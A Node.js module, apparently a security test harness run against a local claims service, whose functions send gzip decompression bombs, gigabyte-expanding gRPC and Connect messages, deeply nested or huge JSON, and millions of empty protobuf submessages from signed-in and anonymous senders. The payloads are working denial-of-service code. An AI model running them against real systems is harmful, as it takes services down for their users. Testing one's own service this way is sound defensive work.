// Little that becomes much: what is compressed, and what costs many times its bytes once it is read.
import { connect } from "node:http2";
import { request } from "node:https";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { constants, deflateRawSync, gzipSync } from "node:zlib";

const mebibyte = 1 << 20;

// gzip of so many MiB of zeros, cheap to make: blocks that stand alone, one behind the other. Its checksum is wrong, which is known only at its end.
export function bomb(mebibytes) {
  const step = 16;
  const block = deflateRawSync(Buffer.alloc(step * mebibyte), { finishFlush: constants.Z_FULL_FLUSH });
  const head = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);
  return Buffer.concat([head, ...Array(Math.ceil(mebibytes / step)).fill(block), Buffer.from([3, 0]), Buffer.alloc(8)]);
}
const envelope = (flags, message) => {
  const head = Buffer.alloc(5);
  head[0] = flags;
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
};
// So many of one thing as fit into as many bytes.
const filled = (each, bytes) => Buffer.concat(Array(Math.floor(bytes / each.length)).fill(each));

// The status of a POST; the word "cut" when it was ended.
function post(victim, method, headers, body, from) {
  return new Promise((answered) => {
    const call = request(`${victim.url}/klaim.v1.${method}`, { method: "POST", ca: victim.ca, agent: false, localAddress: from, timeout: 60_000, headers: { "content-length": body.length, ...headers } }, (response) => {
      response.resume();
      response.on("error", () => answered("cut"));
      response.on("end", () => answered(response.statusCode));
    });
    call.on("timeout", () => call.destroy());
    call.on("error", () => answered("cut"));
    call.end(body);
  });
}
const told = (answers) => JSON.stringify(answers.reduce((sum, each) => ({ ...sum, [each]: (sum[each] ?? 0) + 1 }), {}));
const bearer = async (victim, name) => ({ authorization: `Bearer ${await victim.sessionOf(name)}` });

const gzipStream = { "content-type": "application/connect+proto", "connect-content-encoding": "gzip" };

// 7.9 MB of envelopes, each of which becomes 8 MiB, by somebody who signed in.
export async function gzipEnvelopes(victim) {
  const one = envelope(1, gzipSync(Buffer.alloc(8 * mebibyte - 64)));
  const body = filled(one, 7_900_000);
  const who = await bearer(victim, "sari");
  const answers = await Promise.all(["EvidenceService/UploadDocument", "EvidenceService/UploadDocument", "AuditService/ReadLog"].map((method) => post(victim, method, { ...gzipStream, ...who }, body)));
  const whole = await Promise.all(Array.from({ length: 4 }, () => post(victim, "IntakeService/FileClaim", { "content-type": "application/proto", "content-encoding": "gzip", ...who }, bomb(4_096))));
  return `3 x ${Math.floor(7_900_000 / one.length)} envelopes of 8 MiB, 4 x 4 GiB in one message; answers ${told([...answers, ...whole])}`;
}

// The same by strangers, as much as they may send and more.
export async function gzipEnvelopesOfStrangers(victim) {
  const one = envelope(1, gzipSync(Buffer.alloc(8 * mebibyte - 64)));
  const bodies = [filled(one, 7_900_000), filled(one, 60_000), filled(envelope(1, gzipSync(Buffer.alloc(64))), 60_000)];
  const answers = [];
  for (const body of bodies) answers.push(...await Promise.all(Array.from({ length: 20 }, (_, i) => post(victim, "EvidenceService/UploadDocument", gzipStream, body, `127.0.2.${i + 1}`))));
  answers.push(...await Promise.all(Array.from({ length: 20 }, (_, i) => post(victim, "SessionService/SignIn", { "content-type": "application/json", "content-encoding": "gzip" }, bomb(800).subarray(0, 60_000), `127.0.2.${i + 1}`))));
  return `80 requests of up to 7.9 MB from 20 addresses; answers ${told(answers)}`;
}

// 6 x 8 MiB of JSON that holds millions of empty objects, or is nested deeply, or has as many values as are let through.
export async function manyObjectsInJson(victim) {
  const who = await bearer(victim, "sari");
  const objects = (count) => Buffer.from(`{"importName":"a","lines":[${Array(count).fill("{}").join(",")}]}`);
  const json = { "content-type": "application/json", ...who };
  const bodies = {
    "2.7 million empty objects": objects(2_700_000),
    "a million empty objects": objects(1_000_000),
    "199,000 empty objects": objects(199_000),
    "199,000 unknown objects": Buffer.from(`{"unknown":[${Array(199_000).fill('{"a":1}').join(",")}]}`.slice(0, 8_000_000)),
    "190,000 levels": Buffer.from(`{"lines":${"[".repeat(190_000)}${"]".repeat(190_000)}}`),
    "9,000 levels": Buffer.from(`${'{"a":'.repeat(9_000)}1${"}".repeat(9_000)}`),
  };
  const answers = [];
  for (const body of Object.values(bodies)) answers.push(...await Promise.all(Array.from({ length: 6 }, () => post(victim, "ImportExportService/StageImport", json, body))));
  const streamed = gzipSync(objects(199_000));
  answers.push(...await Promise.all(Array.from({ length: 6 }, () => post(victim, "EvidenceService/UploadDocument", { ...gzipStream, "content-type": "application/connect+json", ...who }, filled(envelope(1, streamed), 7_900_000)))));
  return `6 each of ${Object.keys(bodies).join(", ")}, and of a stream; answers ${told(answers)}`;
}

// Calls over HTTP/2 with messages as they are, by a certificate or none: resolves with how many were answered, and how.
async function callRaw(victim, { name, from, method, message, calls, headers = {} }) {
  const file = (end) => readFileSync(join(victim.folder, "people", `${name}.${end}`));
  const session = connect(`https://${victim.grpc}`, { ca: victim.ca, localAddress: from, ...(name ? { cert: file("crt"), key: file("key") } : {}) });
  session.on("error", () => {});
  const answers = await Promise.all(Array.from({ length: calls }, () => new Promise((answered) => {
    let call;
    try {
      call = session.request({ ":method": "POST", ":path": `/klaim.v1.${method}`, te: "trailers", "content-type": "application/grpc", ...headers });
    } catch {
      return answered("cut");
    }
    let code = "cut";
    setTimeout(() => answered(code), 60_000).unref();  // whatever becomes of it
    call.on("response", (head) => (code = head["grpc-status"] ?? code));
    call.on("trailers", (tail) => (code = `code ${tail["grpc-status"]}`));
    call.on("error", () => answered("cut"));
    call.on("close", () => answered(code));
    call.resume();
    call.end(message);
  })));
  session.destroy();
  return answers;
}

const gzipped = { headers: { "grpc-encoding": "gzip" } };

// gRPC messages that expand to gigabytes, by a partner.
export async function gzipOverGrpc(victim) {
  const message = envelope(1, bomb(4_096));
  const answers = await Promise.all(Array.from({ length: 3 }, () => callRaw(victim, { name: "mitra", method: "IntakeService/FileClaim", message, calls: 2, ...gzipped })));
  return `6 messages of ${(message.length / mebibyte).toFixed(1)} MiB that become 4 GiB; answers ${told(answers.flat())}`;
}

// And by strangers.
export async function gzipOverGrpcOfStrangers(victim) {
  const message = envelope(1, bomb(1_024));
  const answers = await Promise.all(Array.from({ length: 8 }, (_, i) => callRaw(victim, { from: `127.0.3.${i + 1}`, method: "SessionService/SignIn", message, calls: 4, ...gzipped })));
  return `32 messages of ${(message.length / mebibyte).toFixed(1)} MiB that become 1 GiB; answers ${told(answers.flat())}`;
}

// 8 MiB of empty submessages: StageImport's lines, FileClaims' filings.
const lines = (bytes) => envelope(0, filled(Buffer.from([0x1a, 0]), bytes));

export async function emptySubmessages(victim) {
  const whole = await Promise.all(Array.from({ length: 4 }, () => callRaw(victim, { name: "mitra", method: "ImportExportService/StageImport", message: lines(8 * mebibyte - 2), calls: 4 })));
  const filings = envelope(0, filled(Buffer.from([0x0a, 0]), 8 * mebibyte - 2));
  const streams = await Promise.all(Array.from({ length: 4 }, () => callRaw(victim, { name: "mitra", method: "IntakeService/FileClaims", message: filings, calls: 2 })));
  const http = await Promise.all(Array.from({ length: 6 }, async () => post(victim, "ImportExportService/StageImport", { "content-type": "application/proto", ...await bearer(victim, "sari") }, lines(8 * mebibyte - 2).subarray(5))));
  return `16 + 8 gRPC messages and 6 over HTTP, of 4 million submessages each; answers ${told([...whole, ...streams, ...http].flat())}`;
}

export async function emptySubmessagesOfStrangers(victim) {
  const answers = await Promise.all(Array.from({ length: 8 }, (_, i) => callRaw(victim, { from: `127.0.3.${i + 1}`, method: "ImportExportService/StageImport", message: lines(8 * mebibyte - 2), calls: 4 })));
  return `32 messages of 4 million submessages from 8 addresses; answers ${told(answers.flat())}`;
}
